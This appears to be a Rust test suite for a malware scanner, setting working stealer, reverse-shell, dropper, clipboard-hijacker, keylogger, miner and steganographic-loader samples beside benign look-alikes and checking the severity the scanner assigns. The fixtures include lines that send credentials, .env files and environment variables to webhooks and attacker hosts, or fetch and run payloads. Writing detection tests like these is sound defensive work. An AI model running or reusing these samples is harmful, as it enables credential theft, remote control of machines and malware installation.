//! Positives and their legitimate neighbours side by side.

use crate::analysis::finding::ScamFinding;
use crate::result::Severity;

fn scan(path: &str, text: &str) -> Vec<ScamFinding> {
    crate::analysis::scanner::scan_text(path, text)
        .map(|s| s.scam)
        .unwrap_or_default()
}

/// The worst `scam.malware` finding of a file.
fn malware(path: &str, text: &str) -> Option<ScamFinding> {
    scan(path, text)
        .into_iter()
        .filter(|f| f.check == "scam.malware")
        .max_by_key(|f| f.severity)
}

fn sev(path: &str, text: &str) -> Option<Severity> {
    malware(path, text).map(|f| f.severity)
}

#[track_caller]
fn clean(path: &str, text: &str) {
    let f = scan(path, text);
    assert!(
        f.iter().all(|f| f.check != "scam.malware"),
        "{path} should be clean: {f:#?}"
    );
}

#[test]
fn credential_theft_vs_aws_helper() {
    let stealer = r#"import os, requests
home = os.path.expanduser("~")
data = {}
data["aws"] = open(os.path.join(home, ".aws", "credentials")).read()
data["ssh"] = open(home + "/.ssh/id_rsa").read()
data["npm"] = open(home + "/.npmrc").read()
requests.post("https://discord.com/api/webhooks/1234/abcd", json=data)
"#;
    let f = malware("src/pkg/util.py", stealer).expect("stealer");
    assert_eq!(f.severity, Severity::Critical, "{f:?}");
    assert!(f.detail.contains("~/.aws/credentials (line 4)"), "{}", f.detail);
    assert!(f.detail.contains("a Discord webhook (line 7)"), "{}", f.detail);

    // An AWS CLI helper reads the credentials file and calls AWS: not malware.
    let helper = r#"import configparser, os, requests
def profile(name):
    cfg = configparser.ConfigParser()
    cfg.read(os.path.expanduser("~/.aws/credentials"))
    return cfg[name]
def whoami_aws():
    return requests.post("https://sts.amazonaws.com/", data={"Action": "GetCallerIdentity"})
"#;
    clean("awsutil/creds.py", helper);
    // A dotfiles tool naming several stores and syncing somewhere: at most high.
    let sync = r#"import os, shutil, requests
FILES = ["~/.ssh/config", "~/.npmrc", "~/.gitconfig"]
for f in FILES:
    shutil.copy(os.path.expanduser(f), "backup/")
requests.post(SYNC_URL, files={"f": open("backup.zip", "rb")})
"#;
    assert_ne!(sev("dotsync/sync.py", sync), Some(Severity::Critical));
}

#[test]
fn env_file_trading_bot_is_clean() {
    let bot = r#"from dotenv import load_dotenv
import os, requests
load_dotenv(".env")
KEY = os.environ["BINANCE_KEY"]
r = requests.post("https://api.binance.com/api/v3/order", headers={"X-MBX-APIKEY": KEY})
"#;
    clean("bot/trade.py", bot);
    let raw = "const env = fs.readFileSync('.env', 'utf8');\nconst r = await fetch('https://api.binance.com/api/v3/account', { headers: { 'X-MBX-APIKEY': key } });\n";
    clean("src/binance.js", raw);
    // The same raw read sent to a webhook.
    let thief = "const env = fs.readFileSync('.env', 'utf8');\nawait fetch('https://webhook.site/abc-123', { method: 'POST', body: env });\n";
    assert_eq!(sev("src/init.js", thief), Some(Severity::Critical));
}

#[test]
fn discord_bot_vs_host_data_to_webhook() {
    let bot = r#"import requests, socket
WEBHOOK = "https://discord.com/api/webhooks/111/xyz"
def announce(price):
    requests.post(WEBHOOK, json={"content": f"BTC is {price} (from {socket.gethostname()})"})
"#;
    clean("bot/notify.py", bot);
    let recon = r#"import requests, getpass, socket
info = {"user": getpass.getuser(), "host": socket.gethostname()}
requests.post("https://discord.com/api/webhooks/111/xyz", json=info)
"#;
    let f = malware("pkg/__init__.py", recon).expect("recon");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.detail.contains("user name"), "{}", f.detail);
    let user_only = "import getpass, requests\nrequests.post('https://abc.oast.fun', data=getpass.getuser())\n";
    assert_eq!(sev("pkg/a.py", user_only), Some(Severity::High));
}

#[test]
fn env_harvesting() {
    let js = "const https = require('https');\nconst req = https.request({ hostname: 'x1.oast.fun', method: 'POST' });\nreq.write(JSON.stringify(process.env));\nreq.end();\n";
    assert_eq!(sev("index.js", js), Some(Severity::Critical));
    let py = "import os, requests\nrequests.post('https://eo1x.m.pipedream.net', json=dict(os.environ))\n";
    assert_eq!(sev("pkg/x.py", py), Some(Severity::Critical));
    // The whole environment to an ordinary API, or a child process's env: nothing.
    let debug =
        "await fetch('https://api.example-corp.com/debug', { method: 'POST', body: JSON.stringify(process.env) });\n";
    clean("src/debug.js", debug);
    let child = "const hook = 'https://discord.com/api/webhooks/1/a';\nspawn('node', ['x.js'], { env: { ...process.env, FOO: '1' } });\nconst u = process.env.USER;\n";
    clean("src/run.js", child);
}

#[test]
fn discord_token_grabber_vs_leveldb_user() {
    let grab = r#"import os, re
roaming = os.getenv("APPDATA")
path = roaming + "\\discord\\Local Storage\\leveldb"
for name in os.listdir(path):
    for line in open(os.path.join(path, name), errors="ignore").readlines():
        for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
            tokens.append(token)
"#;
    assert_eq!(sev("grab.py", grab), Some(Severity::Critical));
    let level = "const level = require('level');\nconst db = level('./data/leveldb');\n// a discord bot's cache\nconst discord = require('discord.js');\n";
    clean("src/cache.js", level);
}

#[test]
fn reverse_shells_vs_neighbours() {
    let py = "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"10.0.0.1\",4444))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1)\nimport pty; pty.spawn(\"/bin/sh\")\n";
    assert_eq!(sev("x.py", py), Some(Severity::Critical));
    let sh = "#!/bin/bash\nbash -i >& /dev/tcp/93.184.216.34/4444 0>&1\n";
    assert_eq!(sev("run.sh", sh), Some(Severity::Critical));
    let nc = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f\n";
    assert_eq!(sev("x.sh", nc), Some(Severity::Critical));
    let health = "#!/bin/bash\ntimeout 1 bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/5432'\n";
    clean("scripts/wait-for-db.sh", health);
    let term = "import pty, os\ndef shell():\n    pty.spawn(os.environ.get('SHELL', '/bin/sh'))\n";
    clean("termtool/local.py", term);
}

#[test]
fn dev_tcp_reverse_shell_vs_port_probe() {
    // Descriptors duplicated into the socket: a shell driven from the other end.
    let shells = [
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
        "bash -i &> /dev/udp/203.0.113.5/53\n",
        "/bin/bash > /dev/tcp/203.0.113.5/4444 0<&1 2>&1\n",
        "0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196\n",
        "exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do $line 2>&5 >&5; done\n",
    ];
    for sh in shells {
        assert_eq!(sev("run.sh", sh), Some(Severity::Critical), "{sh}");
    }
    // wait-for-it.sh (vendored everywhere): a port probe whose `2>&1` goes to /dev/null.
    let probe = "wait_for() {\n  while :\n  do\n    if [[ $ISBUSY -eq 1 ]]; then\n      nc -z $HOST $PORT\n      result=$?\n    else\n      (echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1\n      result=$?\n    fi\n  done\n}\n";
    clean("docker/wait-for-it.sh", probe);
    // A bash HTTP client on a socket descriptor: no shell reads from it.
    let http = "exec 3<>/dev/tcp/localhost/8080; echo -e 'GET /health HTTP/1.0\\r\\n' >&3; cat <&3\n";
    clean("scripts/health.sh", http);
    // `-i` of another tool on a probe line is no interactive shell.
    clean("scripts/probe.sh", "grep -i ok < /dev/tcp/localhost/80 2>&1\n");
}

#[test]
fn env_file_bot_vs_env_stealer() {
    // A trading bot parsing its own token out of .env and posting to its own chat: worth a
    // look, not a verdict.
    let bot = r#"import requests
env = open('.env').read()
TOKEN = env.split('TOKEN=')[1].split()[0]
CHAT = env.split('CHAT_ID=')[1].split()[0]
def notify(data):
    requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={'chat_id': CHAT, 'text': data})
"#;
    let f = malware("bot/notify.py", bot).expect("bot");
    assert!(f.severity <= Severity::High, "{f:?}");
    let js_bot = "const fs = require('fs');\nconst env = fs.readFileSync('.env', 'utf8');\nconst token = env.match(/BOT_TOKEN=(.*)/)[1];\nawait fetch(`https://api.telegram.org/bot${token}/sendMessage`, { method: 'POST', body: JSON.stringify({ chat_id: 1, text: 'filled' }) });\n";
    assert!(sev("src/bot.js", js_bot) <= Some(Severity::High));
    let hook_bot = "import requests\nwith open('.env') as fh:\n    cfg = fh.read()\nHOOK = 'https://discord.com/api/webhooks/1/abc'\nrequests.post(HOOK, json={'content': 'BTC up'})\n";
    assert!(sev("bot/hook.py", hook_bot) <= Some(Severity::High));

    // The raw contents sent: a stealer, whichever channel.
    let stealer = "import requests\nWEBHOOK = 'https://discord.com/api/webhooks/123/abc'\ndata = open('.env').read()\nrequests.post(WEBHOOK, json={'content': data})\n";
    assert_eq!(sev("pkg/__init__.py", stealer), Some(Severity::Critical));
    let inline = "import requests\nrequests.post('https://api.telegram.org/bot1:AA/sendDocument', data={'chat_id': 1}, files={'document': open('.env', 'rb')})\n";
    assert_eq!(sev("pkg/setup_hook.py", inline), Some(Severity::Critical));
    let handle = "import requests\nwith open('.env') as fh:\n    blob = fh.read()\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'content': blob})\n";
    assert_eq!(sev("pkg/x.py", handle), Some(Severity::Critical));
    let js = "const env = require('fs').readFileSync('.env', 'utf8');\nfetch(`https://api.telegram.org/bot${T}/sendMessage`, { method: 'POST', body: JSON.stringify({ chat_id: C, text: env }) });\n";
    assert_eq!(sev("src/init.js", js), Some(Severity::Critical));
    // ~/.ssh with the same bot channel stays critical.
    let ssh = "import requests, os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={'chat_id': CHAT, 'text': 'hi'})\n";
    assert_eq!(sev("pkg/y.py", ssh), Some(Severity::Critical));
}

#[test]
fn download_and_execute_vs_own_release_installer() {
    let dropper = "import urllib.request, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'upd.exe')\nurllib.request.urlretrieve('http://45.61.136.10/upd.exe', p)\nos.startfile(p)\n";
    let f = malware("pkg/core.py", dropper).expect("dropper");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.detail.contains("raw IP"), "{}", f.detail);
    let ps = "import subprocess\nsubprocess.Popen(\"powershell -c IEX (New-Object Net.WebClient).DownloadString('https://cdn-update.xyz/a.ps1')\", shell=True)\n";
    assert_eq!(sev("pkg/run.py", ps), Some(Severity::Critical));
    let node = "const https = require('https');\nconst fs = require('fs');\nhttps.get('https://files.evil-cdn.top/x', r => r.pipe(fs.createWriteStream('/tmp/x')).on('finish', () => {\n  fs.chmodSync('/tmp/x', 0o755);\n  require('child_process').execFile('/tmp/x');\n}));\n";
    assert_eq!(sev("lib/index.js", node), Some(Severity::Critical));

    let stage2 = "import requests\npayload = requests.get(\"http://evil.test/stage2\").content\nexec(payload)\n";
    assert_eq!(sev("pkg/s.py", stage2), Some(Severity::Critical));
    let cfg = "import requests\ncfg = requests.get(CONFIG_URL).json()\nrun(cfg)\n";
    clean("pkg/cfg.py", cfg);

    // rustup/deno-style installer: its own GitHub release, checksum checked.
    let install = r#"#!/bin/sh
set -eu
VERSION="v1.4.2"
URL="https://github.com/acme/tool/releases/download/${VERSION}/tool-$(uname -m).tar.gz"
curl -fsSL "https://github.com/acme/tool/releases/download/${VERSION}/tool-x86_64.tar.gz" -o /tmp/tool.tgz
echo "$SHA256  /tmp/tool.tgz" | sha256sum -c -
tar -xzf /tmp/tool.tgz -C "$HOME/.tool/bin"
chmod +x "$HOME/.tool/bin/tool"
"#;
    clean("install.sh", install);
    let setup = "#!/bin/bash\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\nsh -c \"$(curl -sSfL https://release.solana.com/v1.18.4/install)\"\n";
    clean("scripts/setup.sh", setup);
}

#[test]
fn encoded_powershell() {
    let enc = "import subprocess\nsubprocess.Popen('powershell -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', shell=True)\n";
    assert_eq!(sev("pkg/a.py", enc), Some(Severity::Critical));
    let hidden =
        "Start-Process powershell -WindowStyle Hidden -ArgumentList \"-c iwr https://x.example/p.ps1 | iex\"\n";
    assert_eq!(sev("tools/run.ps1", hidden), Some(Severity::Critical));
    let build =
        "powershell -NoProfile -Command \"Get-ChildItem -Recurse | Remove-Item\"\nopenssl ec -in key.pem -ec -noout\n";
    clean("scripts/clean.ps1", build);
}

#[test]
fn clipboard_hijacker_vs_wallet_ui() {
    let clipper = r#"import pyperclip, re, time
BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
while True:
    s = pyperclip.paste()
    if BTC.match(s):
        pyperclip.copy("bc1qattackerattackerattackerattacker0000")
    time.sleep(0.5)
"#;
    assert_eq!(sev("clip.py", clipper), Some(Severity::Critical));
    let ui = r#"const ADDR = /^0x[a-fA-F0-9]{40}$/;
export function Send() {
  useEffect(() => { const t = setInterval(refreshBalance, 10000); return () => clearInterval(t); }, []);
  const paste = async () => setTo(await navigator.clipboard.readText());
  const copy = () => navigator.clipboard.writeText(myAddress);
  const valid = ADDR.test(to);
}
"#;
    clean("src/Send.jsx", ui);
    // A clipper's loop body on its own: paste, regex test, copy back.
    let body = r#"self.address_btc = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
clipboard_data = pyperclip.paste()
if re.search("^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", clipboard_data):
    pyperclip.copy(self.address_btc)
"#;
    assert_eq!(sev("pkg/c.py", body), Some(Severity::Critical));
    // A clipboard manager that labels copied addresses and restores old entries: it reads,
    // writes and matches addresses, but has no replacement address of its own.
    let manager = r#"import re, time, pyperclip
LABELS = [(re.compile(r'^0x[a-fA-F0-9]{40}$'), 'ETH address'), (re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$'), 'BTC address')]
def watch(history):
    last = None
    while True:
        text = pyperclip.paste()
        if text != last:
            history.append((time.time(), text))
            last = text
        time.sleep(0.5)
def restore(entry):
    pyperclip.copy(entry[1])
"#;
    clean("cliphist/watch.py", manager);
    // A CLI wallet that copies its address and reads a pasted one for validation.
    let cli = r#"import pyperclip, re
def show(addr):
    pyperclip.copy(addr)
    print("copied")

def ask():
    input("paste the recipient, then press enter")
    to = pyperclip.paste()
    return re.fullmatch(r"0x[a-fA-F0-9]{40}", to)
"#;
    clean("wallet/cli.py", cli);
    let copy_only = "const copy = () => navigator.clipboard.writeText(address); // 0x[a-fA-F0-9]{40}\n";
    clean("src/Copy.jsx", copy_only);
}

#[test]
fn miners() {
    let m = "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', W, '--donate-level', '1'])\n";
    assert_eq!(sev("pkg/m.py", m), Some(Severity::High));
    assert_eq!(sev("setup.py", m), Some(Severity::Critical));
    let dash =
        "POOLS = ['nanopool.org', '2miners.com', 'supportxmr.com']\ndef show(stats):\n    return stats['hashrate']\n";
    clean("dashboard/pools.py", dash);
}

#[test]
fn persistence_vs_backup_cron() {
    let p = r#"import winreg, urllib.request, os
urllib.request.urlretrieve("https://updates.example.net/svc.exe", os.environ["APPDATA"] + "\\svc.exe")
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, "svc", 0, winreg.REG_SZ, os.environ["APPDATA"] + "\\svc.exe")
"#;
    let found = scan("pkg/p.py", p);
    assert!(
        found
            .iter()
            .any(|f| f.title == "Installs itself to run at startup" && f.severity == Severity::High),
        "{found:#?}"
    );
    let backup = "#!/bin/sh\n(crontab -l; echo \"0 3 * * * /usr/local/bin/backup.sh\") | crontab -\ntar czf /tmp/b.tgz /srv && curl -T /tmp/b.tgz https://s3.example.com/bucket/\n";
    clean("scripts/install-cron.sh", backup);
}

#[test]
fn keylogger_vs_automation() {
    let k = r#"from pynput import keyboard
import requests
log = []
def on_press(key):
    log.append(str(key))
    if len(log) > 50:
        requests.post("https://api.telegram.org/bot123:AA/sendMessage", data={"text": "".join(log)})
with keyboard.Listener(on_press=on_press) as l:
    l.join()
"#;
    assert_eq!(sev("k.py", k), Some(Severity::Critical));
    let auto = "from pynput import keyboard, mouse\ndef on_press(key):\n    if key == keyboard.Key.f8:\n        mouse.Controller().click(mouse.Button.left)\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n";
    clean("autoclicker/main.py", auto);
}

#[test]
fn dns_exfiltration() {
    let js = "const dns = require('dns');\nconst os = require('os');\ndns.lookup(os.hostname() + '.' + 'c9x.oast.fun', () => {});\n";
    assert_eq!(sev("lib/x.js", js), Some(Severity::High));
    let py = "import socket, getpass\nsocket.gethostbyname(getpass.getuser().encode().hex() + '.x.example.net')\n";
    assert_eq!(sev("setup.py", py), Some(Severity::Critical));
    let ok = "const dns = require('dns');\ndns.lookup('registry.npmjs.org', cb);\nconst h = os.hostname();\n";
    clean("lib/net.js", ok);
}

#[test]
fn pyarmor() {
    let p =
        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59')\n";
    assert_eq!(sev("pkg/__init__.py", p), Some(Severity::High));
    assert_eq!(sev("pkg/sub/impl.py", p), Some(Severity::Medium));
    clean(
        "docs_gen/notes.py",
        "# we used to ship with pytransform; no more\nx = 1\n",
    );
}

#[test]
fn whitespace_padding() {
    let pad = format!(
        "print('installing')\nx = 1{};__import__('builtins').exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
        " ".repeat(220)
    );
    assert_eq!(sev("pkg/a.py", &pad), Some(Severity::High));
    let table = format!("x = 1{}# aligned comment\nTABLE = 2\n", " ".repeat(220));
    clean("pkg/b.py", &table);
}

#[test]
fn zero_width_and_homoglyphs() {
    let zw = "let is\u{200B}Admin = false;\nif (is\u{200B}Admin) {}\n";
    assert_eq!(sev("src/auth.js", zw), Some(Severity::High));
    let emoji = "const family = \"👨\u{200D}👩\u{200D}👧\";\n";
    clean("src/emoji.js", emoji);
    clean("src/bom.js", "\u{FEFF}const a = 1;\n");
    let homo = "def p\u{0430}ypal_login(user):\n    return user\n";
    assert_eq!(sev("pkg/login.py", homo), Some(Severity::High));
    let russian = "print(\"Привет, мир\")  \nname = \"Dockerфайл\"\n";
    clean("pkg/ru.py", russian);
}

#[test]
fn steganographic_loader() {
    let s = "from PIL import Image\nimg = Image.open('logo.png')\ncode = bytes(p[0] for p in img.getdata()).rstrip(b'\\0')\nexec(code)\n";
    assert_eq!(sev("pkg/img.py", s), Some(Severity::Critical));
    let ok = "from PIL import Image\nimg = Image.open('logo.png')\npixels = list(img.getdata())\nprint(len(pixels))\n";
    clean("pkg/thumb.py", ok);
    // Python: an image's trailing bytes opened by a handle, then run.
    let tail = "import zlib\nwith open('assets/banner.png', 'rb') as fh:\n    blob = fh.read()\npayload = blob[blob.rfind(b'IEND') + 8:]\nexec(zlib.decompress(payload))\n";
    assert_eq!(sev("pkg/banner.py", tail), Some(Severity::Critical));
    let spread = "with open('assets/banner.png', 'rb') as fh:\n    blob = fh.read()\nexec(\n    zlib.decompress(blob[-400:])\n)\n";
    assert_eq!(sev("pkg/banner2.py", spread), Some(Severity::Critical));
    // Python near miss: an image read, then an unrelated exec of a config file.
    let other = "with open('assets/banner.png', 'rb') as fh:\n    blob = fh.read()\nexec(open('settings.py').read())\n";
    assert_ne!(sev("pkg/cfg.py", other), Some(Severity::Critical));
}

#[test]
fn image_stego_loader_vs_image_optimiser() {
    // JavaScript loader: bytes after the PNG's IEND chunk evaluated.
    let stego = "const fs = require('fs');\nconst buf = fs.readFileSync(__dirname + '/logo.png');\nconst code = buf.slice(buf.lastIndexOf('IEND') + 8).toString('utf8');\neval(code);\n";
    assert_eq!(sev("lib/logo.js", stego), Some(Severity::Critical));
    let vm = "const vm = require('vm');\nconst px = ctx.getImageData(0, 0, 64, 64).data;\nconst src = Array.from(px).filter((_, i) => i % 4 === 0).map(c => String.fromCharCode(c)).join('');\nvm.runInThisContext(src);\n";
    assert_eq!(sev("lib/px.js", vm), Some(Severity::Critical));
    // An image optimiser: child_process `exec` of a command next to an image read.
    let optimiser = "const { exec } = require('child_process');\nconst fs = require('fs');\nfor (const f of files) {\n  const input = fs.readFileSync(`${dir}/${f}.png`);\n  exec(`pngquant --force ${f}`);\n}\n";
    clean("scripts/optimise.js", optimiser);
    // An image read and an eval of something else.
    let cfg = "const img = fs.readFileSync('icon.png');\nconst settings = eval('(' + json + ')');\n";
    clean("lib/icon.js", cfg);
    // PHP `exec` runs a shell command, not code.
    let php = "<?php\n$img = file_get_contents('in.png');\n$bytes = fread($fh, 10);\nexec(\"optipng in.png\");\n";
    clean("tools/opt.php", php);
}

#[test]
fn fixtures_in_tests_are_low() {
    let fixture = r#"LOGIN = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
def test_detects_stealer():
    sample = open(LOGIN, "rb").read()
    requests.post("https://discord.com/api/webhooks/1/abc", files={"f": sample})
"#;
    let f = malware("tests/test_password_manager.py", fixture).expect("fixture");
    assert_eq!(f.severity, Severity::Low);
    assert_eq!(
        sev("src/pw.py", fixture),
        Some(Severity::Critical),
        "the same code outside tests"
    );
}

#[test]
fn setup_py_module_level() {
    let evil = "from setuptools import setup\nimport subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', shell=True)\nsetup(name='x', version='1.0')\n";
    let f = scan("setup.py", evil);
    assert!(
        f.iter().any(|f| f.check == "scam.install_scripts"
            && f.severity == Severity::Critical
            && f.detail.contains("line 3")),
        "{f:#?}"
    );
    let fetch = "from setuptools import setup\nimport urllib.request\ntry:\n    urllib.request.urlopen('https://telemetry.example.org/ping?pkg=x')\nexcept Exception:\n    pass\nsetup(name='x')\n";
    assert!(scan("setup.py", fetch)
        .iter()
        .any(|f| f.check == "scam.install_scripts" && f.severity == Severity::High));
    let legit = r#"import os, subprocess
from setuptools import setup, find_packages
here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "README.md")) as f:
    long_description = f.read()
exec(open("pkg/version.py").read())
version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
if os.sys.argv[-1] == "publish":
    os.system("python setup.py sdist upload")
setup(name="pkg", version=version, url="https://github.com/acme/pkg", install_requires=["requests"])
"#;
    assert!(scan("setup.py", legit).is_empty(), "{:#?}", scan("setup.py", legit));
    // Code inside a function runs only when called.
    let in_def = "import subprocess\nfrom setuptools import setup\ndef build_docs():\n    subprocess.call('curl https://x.example/d.sh | sh', shell=True)\nsetup(name='x')\n";
    assert!(scan("setup.py", in_def)
        .iter()
        .all(|f| f.check != "scam.install_scripts"));
}

#[test]
fn whole_environment_to_a_hard_coded_server() {
    let ctx = "import base64\nfrom os import environ\nimport requests\n\ndef send():\n    s = ''\n    for _, v in environ.items():\n        s += v + ' '\n    b = base64.b64encode(s.encode()).decode()\n    requests.get('https://anti-theft.evil.example/h/' + b)\n";
    assert_eq!(sev("ctx/ctx.py", ctx), Some(Severity::Critical));
    let recon = "const https = require('https');\nconst os = require('os');\nconst data = JSON.stringify({ hn: os.hostname(), env: process.env });\nconst req = https.request({ hostname: 'ce9x1k2.evil.example', method: 'POST' });\nreq.write(data);\n";
    assert_eq!(sev("index.js", recon), Some(Severity::Critical));
    // Near misses: the environment handed to a child process; one variable sent to an API;
    // a host name sent to the project's own telemetry.
    clean("run.js", "const https = require('https');\nconst child = spawn('node', ['x.js'], { env: { ...process.env, A: '1' } });\nhttps.get('https://api.example.com/v1/ping');\n");
    clean("bot.js", "const hook = 'https://discord.com/api/webhooks/1/abcdef';\nconst os = require('os');\nconst child = spawn('node', ['worker.js'], {\n  stdio: 'inherit',\n  env: process.env,\n});\nfetch(hook, { method: 'POST', body: os.hostname() });\n");
    clean("cfg.py", "import os\nimport requests\ntoken = os.environ.get('API_TOKEN')\nrequests.get('https://api.example.com/v1/me', headers={'Authorization': token})\n");
    clean("tele.js", "const https = require('https');\nconst os = require('os');\nhttps.request({ hostname: 'telemetry.example.com', method: 'POST' }).end(os.hostname());\n");
}

#[test]
fn disguised_miner() {
    let sh = "#!/bin/bash\nDIR=$HOME/.cache/.sysupdate\ncurl -sL https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6-linux-static-x64.tar.gz | tar xz\nmv xmrig sysupdate\nnohup ./sysupdate -c config.json --background >/dev/null 2>&1 &\n";
    assert_eq!(sev("setup.sh", sh), Some(Severity::Critical));
    let renamed_flags = "curl http://pool.evil.example/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls -o pool.evil.example:443 -u 4vGM --donate-level=1 --background &>/dev/null &\n";
    assert_eq!(sev("preinstall.sh", renamed_flags), Some(Severity::Critical));
    // A miner-setup script that says what it runs, in the foreground: not disguised.
    let honest = "#!/bin/bash\ncurl -sL https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6-linux-static-x64.tar.gz | tar xz\n./xmrig -o stratum+tcp://pool.example.com:3333 -u \"$WALLET\" --donate-level=1\n";
    assert_ne!(sev("scripts/mine.sh", honest), Some(Severity::Critical));
}

#[test]
fn batch_dropper() {
    let coa = "@echo off\nset k=url\nset c=c%k%\nset r=reg\nset s=svr32\nset u=https://cdn.evil.example/sdd.dll\n%c% %u% -o compile.dll\nif not exist compile.dll (\n  certutil.exe -urlcache -f %u% compile.dll\n)\n%r%%s%.exe -s compile.dll\n";
    assert_eq!(sev("compile.bat", coa), Some(Severity::Critical));
    let reg = "@echo off\ncurl https://cdn.evil.example/x.dll -o x.dll\nregsvr32.exe -s x.dll\n";
    assert_eq!(sev("install.bat", reg), Some(Severity::Critical));
    // A build script fetching a tool and calling it through a variable.
    clean("scripts/build.bat", "@echo off\nset NUGET=%~dp0nuget.exe\ncurl -L https://dist.nuget.org/win-x86-commandline/latest/nuget.exe -o %NUGET%\n%NUGET% restore Solution.sln\n");
}

#[test]
fn remote_function_from_a_hidden_url() {
    let js = "const axios = require('axios');\nconst u = 'aHR0cHM6Ly9hcGkuZXZpbC5leGFtcGxlL2ljb25z';\n(async () => {\n  const res = await axios.get(atob(u));\n  const h = new Function.constructor('require', res.data.cookie);\n  h(require);\n})();\n";
    assert_eq!(sev("server/middlewares/errorHandler.js", js), Some(Severity::Critical));
    // The address in the open, the response parsed, not run.
    clean("server/prices.js", "const axios = require('axios');\n(async () => {\n  const res = await axios.get(process.env.PRICE_API);\n  const prices = JSON.parse(res.data);\n  console.log(prices);\n})();\n");
}

#[test]
fn rust_download_and_spawn() {
    let rs = "fn check() {\n    let path = \"/tmp/git-updater.bin\";\n    if let Ok(resp) = reqwest::blocking::get(\"https://evil.example/x/git-updater.bin\") {\n        if let Ok(bytes) = resp.bytes() {\n            let mut f = std::fs::File::create(path).unwrap();\n            f.write_all(&bytes).unwrap();\n            let _ = Command::new(path).spawn();\n        }\n    }\n}\n";
    assert_eq!(sev("src/lib.rs", rs), Some(Severity::Critical));
    // A client that downloads a file and saves it: no execution.
    clean("src/dl.rs", "fn fetch() {\n    let resp = reqwest::blocking::get(\"https://example.com/data.csv\").unwrap();\n    let mut f = std::fs::File::create(\"data.csv\").unwrap();\n    f.write_all(&resp.bytes().unwrap()).unwrap();\n}\n");
}

#[test]
fn env_key_into_bot_message_is_not_malware_alone() {
    // Sanity: a notifier without the key stays clean of scam.malware.
    clean("bot/notify.py", "import requests\ndef notify(msg):\n    requests.post(f'https://api.telegram.org/bot{BOT}/sendMessage', data={'chat_id': CHAT, 'text': msg})\n");
}
